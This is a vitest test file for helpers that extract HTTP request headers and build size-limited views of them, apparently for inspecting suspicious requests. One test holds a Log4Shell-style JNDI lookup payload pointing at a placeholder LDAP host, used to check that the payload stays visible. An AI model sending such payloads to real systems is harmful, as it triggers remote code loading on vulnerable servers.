import { describe, expect, it } from 'vitest'
import { headerValues, headerViews } from './request-headers.js'

describe('headerValues', () => {
  it('takes single and repeated headers, by lower-case name, and leaves out what is no text', () => {
    const headers = { 'X-Api-Version': 'a', Cookie: ['b', 7, 'c'], Accept: null, 'x-odd': { a: 'd' } }
    expect(headerValues({ headers })).toEqual([
      { name: 'x-api-version', value: 'a' },
      { name: 'cookie', value: 'b' },
      { name: 'cookie', value: 'c' },
    ])
  })

  it('counts user agent and host as headers unless they are among them', () => {
    expect(headerValues({ headers: { Host: 'a' }, host: 'b', user_agent: 'c' })).toEqual([
      { name: 'host', value: 'a' },
      { name: 'user-agent', value: 'c' },
    ])
  })

  it.each([undefined, null, 'text', 7, ['a'], [['a', 'b']]])('has none where the map is %j', (headers) => {
    expect(headerValues({ headers })).toEqual([])
  })

  it('holds no more than 64 lines, and no endless names', () => {
    expect(headerValues({ headers: { cookie: new Array(1000).fill('a') } })).toHaveLength(64)
    expect(headerValues({ headers: { ['n'.repeat(200)]: 'a' } })).toEqual([])
  })
})

describe('headerViews', () => {
  it('shows a small header whole beside huge ones', () => {
    const huge = 'a'.repeat(50_000)
    const jndi = '${jndi:ldap://203.0.113.7/a}'
    const views = headerViews(headerValues({ headers: { one: huge, two: huge, three: huge, 'x-api-version': jndi } }))
    expect(views.get('x-api-version')?.[0]?.text).toBe(jndi)
    const total = [...views.values()].flat().reduce((sum, { text }) => sum + text.length, 0)
    expect(total).toBeLessThanOrEqual(4096)
  })

  it('does not look inside credentials', () => {
    const secret = Buffer.from('admin:a very long and secret password').toString('base64')
    const views = headerViews(headerValues({ headers: { authorization: `Basic ${secret}`, 'x-data': secret } }))
    expect(views.get('authorization')?.map(({ name }) => name)).toEqual(['raw'])
    expect(views.get('x-data')?.map(({ name }) => name)).toEqual(['raw', 'decoded'])
  })
})
